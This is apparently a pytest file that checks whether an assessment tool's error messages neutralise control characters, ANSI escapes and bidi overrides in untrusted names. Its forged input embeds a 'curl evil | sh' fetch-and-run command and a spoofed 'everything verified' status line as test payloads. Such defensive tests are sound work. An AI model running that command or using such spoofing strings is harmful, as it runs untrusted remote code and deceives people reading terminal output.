"""What a message says of strangers' names: all of it, in one line, and nothing that they would like it to say."""

from pathlib import Path

import pytest

from assess_core.errors import ConfigError as RuntimeConfigError
from assess_registry.errors import ConfigError, Issue, TransportError, TrustError, WheelError
from assess_registry.files import LockTimeoutError

FORGED = "x\nassess: everything verified, exit 0\r\x1b[2K\u202egnp\u2028  next: curl evil | sh"
SHOWN = r"x\nassess: everything verified, exit 0\r\x1b[2K\u202egnp\u2028  next: curl evil | sh"
ISSUE = Issue(id="folder-name", entry=FORGED, message=FORGED, rule=FORGED)

ERRORS = {
    "thing": (TrustError("no", step="folder", thing=FORGED), 1),
    "message": (TrustError(FORGED, step="folder", thing="x"), 1),
    "expected": (TrustError("no", step="folder", thing="x", expected=FORGED), 3),
    "got": (TrustError("no", step="folder", thing="x", got=FORGED), 3),
    "next step": (TrustError("no", step="folder", thing="x", next_step=FORGED), 2),
    "issue": (TrustError("no", step="folder", thing="x", issues=(ISSUE, ISSUE)), 3),
    "wheel": (WheelError(FORGED, (ISSUE,)), 2),
    "configuration": (ConfigError(FORGED, "another"), 2),
    "configuration of a runtime": (RuntimeConfigError(FORGED, "another"), 2),
    "transport": (TransportError(FORGED, url=FORGED), 1),
    "lock": (LockTimeoutError(Path(FORGED), timeout_s=1, holder=FORGED), 1),
}


@pytest.mark.parametrize("name", ERRORS)
def test_a_name_forges_no_line(name: str) -> None:
    error, lines = ERRORS[name]
    assert len(str(error).splitlines()) == lines
    assert SHOWN in str(error)
    assert all(line.isprintable() for line in str(error).split("\n"))


def test_what_programs_read_is_as_it_was() -> None:
    error = TrustError(FORGED, step="folder", thing=FORGED, expected=FORGED, issues=(ISSUE,))
    assert (error.what, error.thing, error.expected, error.issues[0].entry) == (FORGED,) * 4
    assert ConfigError(FORGED).problems == (FORGED,)


def test_words_of_any_language_are_as_they_were() -> None:
    assert str(TrustError("não é", step="folder", thing="プラグイン é")) == (
        "refused at step 'folder': プラグイン é: não é"
    )
